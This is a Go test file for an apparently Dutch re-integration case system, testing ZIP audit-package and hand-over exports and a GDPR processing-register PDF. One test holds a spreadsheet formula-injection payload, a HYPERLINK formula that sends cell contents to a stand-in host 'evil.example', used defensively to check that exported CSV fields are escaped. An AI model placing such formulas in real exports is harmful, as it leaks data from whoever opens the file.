package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/opstap/opstap/internal/access"
	"github.com/opstap/opstap/internal/privacy"

	"github.com/opstap/opstap"
	"github.com/opstap/opstap/internal/account"
	"github.com/opstap/opstap/internal/audit"
	"github.com/opstap/opstap/internal/store"
	"github.com/opstap/opstap/internal/store/storetest"
)

// TestAuditPackageZip_003bewerkersArt3: the package holds a README, the
// JSON and one CSV per part, each with its header and a row per item.
func TestAuditPackageZip_003bewerkersArt3(t *testing.T) {
	at := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	p := &store.AuditPackage{GeneratedAt: at, Commissioner: account.Organisation{ID: "o1", Name: "Gemeente Almere"},
		CandidateIDs: []string{"c1", "c2"},
		AccessLog:    []audit.Entry{{Seq: 7, At: at, ActorUserID: "u1", Event: audit.EventRead, CandidateID: "c1", Category: "basic", Outcome: audit.OutcomeAllowed}},
		Grants:       []store.ReviewGrant{{Grant: opstap.Grant{ID: "g1", UserID: "u1", Role: opstap.RoleCoach, Access: opstap.Write, GrantedAt: at, ReviewedAt: at}, State: access.ReviewOK}},
		Reviews:      []store.GrantReview{{GrantID: "g1", Outcome: store.ReviewReattested, ByUserID: "u2", At: at}},
		Breaches:     []store.BreachDigest{{ID: "b1", DiscoveredAt: at, Deadline: at.Add(72 * time.Hour), Status: privacy.BreachConfirmed, Categories: []opstap.Category{"basic", "bsn"}, Candidates: 1}},
	}
	var buf bytes.Buffer
	if err := AuditPackageZip(&buf, p); err != nil {
		t.Fatal(err)
	}
	files := storetest.Unzip(t, buf.Bytes())
	tests := []struct {
		file   string
		header string
		rows   int
	}{
		{"candidates.csv", "candidate_id", 2},
		{"access_log.csv", "seq", 1},
		{"grants.csv", "grant_id", 1},
		{"reviews.csv", "grant_id", 1},
		{"breaches.csv", "breach_id", 1},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			recs, err := csv.NewReader(bytes.NewReader(files[tt.file])).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != tt.rows+1 || recs[0][0] != tt.header {
				t.Fatalf("%v", recs)
			}
		})
	}
	if !strings.Contains(string(files["README.txt"]), "access_log.csv") {
		t.Fatal("README does not describe the files")
	}
	var back store.AuditPackage
	if err := json.Unmarshal(files["package.json"], &back); err != nil || len(back.AccessLog) != 1 || back.Breaches[0].Deadline != p.Breaches[0].Deadline {
		t.Fatalf("package.json: %v %+v", err, back)
	}
	if !strings.Contains(string(files["breaches.csv"]), "basic;bsn") {
		t.Fatalf("breaches.csv: %s", files["breaches.csv"])
	}
}

// TestAuditPackageZip_formulaInjection: a name chosen to be a formula
// reaches grants.csv as text, not as something a spreadsheet runs.
func TestAuditPackageZip_formulaInjection(t *testing.T) {
	at := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"klik")`
	p := &store.AuditPackage{GeneratedAt: at,
		Grants: []store.ReviewGrant{{Grant: opstap.Grant{ID: "g1", UserID: "u1", Role: opstap.RoleCoach, Access: opstap.Write, GrantedAt: at, ReviewedAt: at},
			UserName: evil, OrgName: "@SUM(1+1)", State: access.ReviewOK}}}
	var buf bytes.Buffer
	if err := AuditPackageZip(&buf, p); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(storetest.Unzip(t, buf.Bytes())["grants.csv"])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := recs[1][2]; got != "'"+evil {
		t.Fatalf("user_name = %q", got)
	}
	if got := recs[1][3]; got != "'@SUM(1+1)" {
		t.Fatalf("organisation = %q", got)
	}
}

// TestHandoverZip_003art7_5: a hand-over survives the ZIP round trip.
func TestHandoverZip_003art7_5(t *testing.T) {
	h := &store.Handover{Format: store.HandoverFormat, ExportedAt: time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC),
		Commissioner: store.HandoverOrg{Name: "Gemeente Almere", Kind: opstap.OrgMunicipality, CBSCode: "0034"},
		Candidates:   []store.HandoverCandidate{{ID: "c1", ExternalRef: "A-1", Data: map[opstap.Category]json.RawMessage{"basic": json.RawMessage(`{"first_name":"José"}`)}}}}
	var buf bytes.Buffer
	if err := HandoverZip(&buf, h); err != nil {
		t.Fatal(err)
	}
	back, err := ReadHandoverZip(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	if back.Commissioner.CBSCode != "0034" || len(back.Candidates) != 1 || !strings.Contains(string(back.Candidates[0].Data["basic"]), "José") {
		t.Fatalf("%+v", back)
	}
	if _, err := ReadHandoverZip(bytes.NewReader([]byte("not a zip")), 9); err == nil {
		t.Fatal("garbage read as a hand-over")
	}
}

// TestProcessingPDF_AVGart30 renders the register.
func TestProcessingPDF_AVGart30(t *testing.T) {
	rec := &store.ProcessingRecord{GeneratedAt: time.Now(), Processor: "Opstap Re-integratie",
		Categories: []store.ProcessingCategory{{Category: opstap.CatMedical, Special: true, Access: []store.RoleAccess{{Role: opstap.RoleMedicalExpert, Action: opstap.Write}}}},
		Purposes:   []store.ProcessingPurpose{{Code: "guidance", Text: "Guidance, re-integration and mediation of the candidate", Basis: "6(1)(b)"}},
		Retention:  []store.ProcessingRetention{{Category: "personal", Event: "trajectory_end", Years: 2}}}
	b, err := ProcessingPDF(rec, "nl")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b, []byte("%PDF-")) || len(b) < 2000 {
		t.Fatalf("not a PDF (%d bytes)", len(b))
	}
	s := ProcessingSections(rec, "en")
	if len(s) != 5 || !strings.Contains(s[2].Text, "Personal data after the trajectory ends: 2 years after end of the trajectory") {
		t.Fatalf("sections %+v", s)
	}
	// In Dutch, no codes: "2 jaar na einde van het traject" (issue 12 item 9).
	nl := ProcessingSections(rec, "nl")
	if !strings.Contains(nl[2].Text, "2 jaar na einde van het traject") || strings.Contains(nl[2].Text, "_") {
		t.Fatalf("Dutch retention section %q", nl[2].Text)
	}
}
